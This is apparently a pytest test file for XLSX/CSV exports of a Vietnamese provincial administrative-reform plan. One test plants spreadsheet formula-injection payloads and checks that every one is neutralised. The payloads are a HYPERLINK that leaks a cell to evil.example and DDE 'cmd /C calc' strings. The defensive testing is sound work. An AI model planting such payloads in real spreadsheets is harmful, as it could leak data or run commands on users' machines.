"""Exports officials can report from: read back with openpyxl (.xlsx) and as text (.csv).

The records are the real index's; the hostile ones are real records whose text was changed the
way a planted plan would change it."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from assistant.contract import Role
from service.app import DutyPeriod, PlanService
from service.export import COLUMNS, ExportFormat, ExportGroup, ExportScope, answer_groups, export_items

TODAY = dt.date(2022, 11, 1)
HOSTILE = {
    "task": '=HYPERLINK("http://evil.example/?leak="&C3,"Xem")',
    "activity": "+cmd|' /C calc'!A0",
    "product": "@SUM(1+1)*cmd|' /C calc'!A0",
    "lead_text": "-2+3+cmd|' /C calc'!A0",
    "coordinating_text": "\t=1+1",
    "section": "\r=1+1",
}


@pytest.fixture(scope="module")
def listing(assistant, index):
    service = PlanService(assistant, assistant.search.agencies)
    answer = service.duties("so-noi-vu", "Hà Tĩnh", DutyPeriod.THIS_YEAR, Role.ANY, TODAY)
    records = [index.get(c.id) for c in answer.citations]
    return answer, records


def _sheet(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def _table(sheet) -> tuple[int, list[tuple]]:
    rows = list(sheet.iter_rows(values_only=True))
    header = rows.index(COLUMNS)
    return header, rows[header + 1:]


def test_the_xlsx_is_ready_to_filter_and_print(listing, index) -> None:
    answer, records = listing
    file = export_items(records, index.plans, ExportFormat.XLSX, ExportScope.of(answer.query), answer_groups(answer))
    sheet = _sheet(file.content)
    header, rows = _table(sheet)

    assert file.filename == "nhiem-vu-so-noi-vu-ha-tinh-nam-2022.xlsx"
    assert sheet["A1"].value == "Nhiệm vụ của Sở Nội vụ — Hà Tĩnh, năm 2022 (hỏi ngày 01/11/2022)"
    assert sheet["A2"].value == f"Câu hỏi: {answer.query.question}"
    assert [r[0] for r in rows] == list(range(1, len(records) + 1))  # STT as the channels number them
    groups = {item.id: block.title for block in answer.blocks if block.type == "group" for item in block.items}
    assert [r[1] for r in rows] == [groups[r.id] for r in records]
    assert sheet.auto_filter.ref == f"A{header + 1}:L{header + 1 + len(rows)}"
    assert sheet.freeze_panes == f"A{header + 2}"
    assert sheet.print_title_rows == f"${header + 1}:${header + 1}"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    due = COLUMNS.index("Hạn hoàn thành")
    dated = [(row, record) for row, record in zip(rows, records) if record.period.end]
    assert dated and all(row[due] == dt.datetime.combine(record.period.end, dt.time()) for row, record in dated)
    assert all(cell.is_date for row in sheet[f"I{header + 2}:I{sheet.max_row}"] for cell in row if cell.value)
    source = rows[0][COLUMNS.index("Nguồn")]
    assert source == f"KH CCHC 2022 Hà Tĩnh › {records[0].section} › {records[0].row}"
    ids = {r.id for r in records}
    assert not any(str(value) in ids for row in sheet.iter_rows(values_only=True) for value in row)


def test_no_cell_is_ever_a_formula(listing, index) -> None:
    _, records = listing
    planted = [records[0].model_copy(update=HOSTILE), *records[1:3]]
    scope = ExportScope(question='=HYPERLINK("http://evil.example","x")', agency="=1+1", province="@A1")
    groups = [ExportGroup(title="-1+1", ids=[planted[0].id])]
    sheet = _sheet(export_items(planted, index.plans, ExportFormat.XLSX, scope, groups).content)
    text = export_items(planted, index.plans, ExportFormat.CSV, scope, groups).content.decode("utf-8-sig")

    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    _, rows = _table(sheet)
    assert rows[0][1:5] == ("'-1+1", "'" + HOSTILE["task"], "'" + HOSTILE["activity"], "'" + HOSTILE["product"])
    table = list(csv.reader(io.StringIO(text)))
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for value in row)
    body = table[table.index(list(COLUMNS)) + 1:]
    assert body[0][2] == "'" + HOSTILE["task"] and body[0][6] == "'" + HOSTILE["coordinating_text"]
    assert body[0][COLUMNS.index("Nguồn")] == f"KH CCHC 2022 Hà Tĩnh › {HOSTILE['section']} › {records[0].row}"


def test_the_csv_has_the_same_table_as_text(listing, index) -> None:
    answer, records = listing
    file = export_items(records, index.plans, ExportFormat.CSV, ExportScope.of(answer.query), answer_groups(answer))
    table = list(csv.reader(io.StringIO(file.content.decode("utf-8-sig"))))
    header = table.index(list(COLUMNS))
    body = table[header + 1:]

    assert file.filename == "nhiem-vu-so-noi-vu-ha-tinh-nam-2022.csv"
    assert table[0] == ["Nhiệm vụ của Sở Nội vụ — Hà Tĩnh, năm 2022 (hỏi ngày 01/11/2022)"]
    assert [row[0] for row in body] == [str(n) for n in range(1, len(records) + 1)]
    due = COLUMNS.index("Hạn hoàn thành")
    assert [row[due] for row in body] == [r.period.end.isoformat() if r.period.end else "" for r in records]


def test_without_groups_the_role_comes_from_the_agency(listing, index) -> None:
    answer, records = listing
    scope = ExportScope.of(answer.query)
    _, rows = _table(_sheet(export_items(records, index.plans, ExportFormat.XLSX, scope).content))

    roles = {row[1] for row in rows}
    assert roles <= {"Chủ trì", "Phối hợp", None} and "Chủ trì" in roles and "Phối hợp" in roles
    bare = export_items(records[:1], index.plans, ExportFormat.XLSX)
    assert bare.filename == "nhiem-vu-cchc.xlsx"
    assert _sheet(bare.content)["A1"].value == "Nhiệm vụ cải cách hành chính"
